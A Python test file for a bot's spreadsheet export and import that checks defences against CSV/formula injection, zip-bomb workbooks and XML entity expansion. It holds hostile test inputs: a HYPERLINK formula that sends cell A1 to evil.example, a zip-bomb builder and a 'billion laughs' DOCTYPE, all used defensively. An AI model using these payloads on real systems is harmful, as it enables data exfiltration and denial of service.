"""Issue 13 §2: text people typed never becomes a formula in a workbook, exported text comes
back unchanged, and an uploaded workbook cannot blow up into gigabytes of XML."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.app import App
from bot.local_chat import LocalChat
from core import people
from core.catalogue import sheet as catalogue_sheet
from db import models
from db.enums import Role
from tests.referral_helpers import manager
from tests.test_digest import digest_chat, local, script_week  # noqa: F401  (fixture)
from tests.test_manager_tools import (  # noqa: F401  (fixtures)
    MANAGER_TAM,
    TAM,
    XLSX,
    exported,
    mchat,
    pristine_catalogue,
    put,
    rows_by_id,
    save,
    upload,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
PHONE = "+7 916 123-45-67"
UNTRUSTED = (FORMULA, PHONE, "-", "@ссылка", "\tс табуляцией")


def formulas(data: bytes) -> list[str]:
    """Every sheet member of the XLSX that holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def as_text(sheet: object, row: int, header: str, value: str) -> None:
    """What a manager's Excel saves for text typed with a leading apostrophe: a string cell."""
    put(sheet, row, header, value)
    for cell in sheet[1]:  # type: ignore[index]
        if cell.value == header:
            sheet.cell(row=row, column=cell.column).data_type = "s"  # type: ignore[attr-defined]


async def test_a_familys_formula_comment_is_plain_text_in_the_digest_workbook(
    app: App,
    session: AsyncSession,
    digest_chat: LocalChat,  # noqa: F811
) -> None:
    s = await script_week(session)
    for comment in UNTRUSTED[:3]:
        s.feedback(local(21, 10), kind="referral", referral="r7", rating=1, comment=comment)
    await session.commit()
    await people.grant_role(
        session, app.clock, messenger_id=7101, role=Role.MANAGER, region_code="RU-TAM"
    )
    await digest_chat.user(7101).send("/digest")

    data = exported(digest_chat)
    assert formulas(data) == []
    book = load_workbook(io.BytesIO(data))
    comments = {row[1] for row in book["Результаты"].iter_rows(values_only=True) if row}
    assert {FORMULA, PHONE, "-"} <= comments
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" and c.quotePrefix for c in texts)


async def test_catalogue_text_like_a_formula_round_trips_through_export_and_import(
    app: App,
    mchat: LocalChat,  # noqa: F811
    session: AsyncSession,
    pristine_catalogue: None,  # noqa: F811
) -> None:
    irina = await manager(app, mchat, MANAGER_TAM, TAM)
    await irina.send("/export")
    book = load_workbook(io.BytesIO(exported(mchat)))
    measures, orgs = book["measures"], book["organizations"]
    measure_id = sorted(rows_by_id(measures))[0]
    row = rows_by_id(measures)[measure_id]
    as_text(measures, row, "summary", FORMULA)
    as_text(measures, row, "caution", "-")
    as_text(measures, row, "legal_basis", "@ст. 5 закона")
    as_text(measures, row, "eligibility", "\tс табуляцией в начале")
    as_text(orgs, rows_by_id(orgs)["tam-opora-demo"], "phone", PHONE)
    await irina.send("/import")
    assert (await upload(irina, save(book), XLSX))[-1].text.startswith("✅ Каталог RU-TAM")

    stored = await session.get(models.Measure, measure_id)
    assert stored is not None
    assert stored.data["summary"] == FORMULA

    await irina.send("/export")
    again = exported(mchat)
    assert formulas(again) == [], "no cell of the export is a live formula"
    measures = load_workbook(io.BytesIO(again), read_only=True)["measures"]
    rows = list(measures.iter_rows(values_only=True))
    header, found = rows[0], next(r for r in rows if r[0] == measure_id)
    values = dict(zip(header, found, strict=False))
    assert values["summary"] == FORMULA
    assert values["caution"] == "-"
    assert values["legal_basis"] == "@ст. 5 закона"
    assert values["eligibility"] == "с табуляцией в начале", "the import trims whitespace"

    # Export → import: the same file changes nothing, every text read back as it was.
    await irina.send("/import")
    assert (await upload(irina, again, XLSX))[-1].text.startswith("Файл в порядке")
    session.expire_all()
    org = await session.scalar(
        select(models.Organization).where(models.Organization.id == "tam-opora-demo")
    )
    assert org is not None and org.data["contacts"]["phone"] == PHONE


def bomb(unpacked_mb: int) -> bytes:
    """A valid-looking workbook whose one sheet unpacks to `unpacked_mb` MiB of blank XML."""
    real = save(openpyxl.Workbook())
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(real)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"<sheetData></sheetData>")
                blank = b" " * (unpacked_mb * 1024 * 1024)
                data = head + b"<sheetData>" + blank + b"</sheetData>" + tail
            target.writestr(item.filename, data)
    return out.getvalue()


async def test_a_zip_bomb_workbook_is_refused_before_it_is_parsed(
    app: App,
    mchat: LocalChat,  # noqa: F811
    session: AsyncSession,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = bomb(48)
    assert len(data) < 200 * 1024, len(data)
    irina = await manager(app, mchat, MANAGER_TAM, TAM)
    await irina.send("/import")
    parsed: list[object] = []
    real_load = openpyxl.load_workbook

    def load_workbook_spy(*args: Any, **kwargs: Any) -> Any:
        parsed.append(args)
        return real_load(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", load_workbook_spy)
    replies = await upload(irina, data, XLSX)
    assert replies[-1].text.startswith("Файл распаковывается в слишком большой объём"), replies
    assert "больше 32 МБ" in replies[-1].text
    assert parsed == [], "refused from the zip directory, before openpyxl unpacks anything"
    with pytest.raises(catalogue_sheet.UnreadableFile) as refused:
        catalogue_sheet.read_file(data, XLSX)
    assert refused.value.code == "unpacked"
    # A normal export passes the same check.
    catalogue_sheet.check_unpacked_size(await catalogue_sheet.export_region(session, TAM))


def causes(error: BaseException) -> list[str]:
    found: list[str] = []
    current: BaseException | None = error
    while current is not None:
        found.append(type(current).__name__)
        current = current.__cause__ or current.__context__
    return found


@pytest.mark.parametrize("member", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_uploaded_xml_is_parsed_with_defusedxml(member: str) -> None:
    assert openpyxl.DEFUSEDXML is True, "defusedxml must be installed for openpyxl to use it"
    book = openpyxl.Workbook()
    book.active.title = "measures"
    book.active.append(["id", "title"])
    book.active.append(["tam-x", "Мера"])
    out = io.BytesIO()
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    with zipfile.ZipFile(io.BytesIO(save(book))) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == member:
                data = laughs + data
            target.writestr(item.filename, data)
    with pytest.raises(catalogue_sheet.UnreadableFile) as refused:
        catalogue_sheet.read_file(out.getvalue(), XLSX)
    assert refused.value.code == "xlsx"
    assert "EntitiesForbidden" in causes(refused.value)
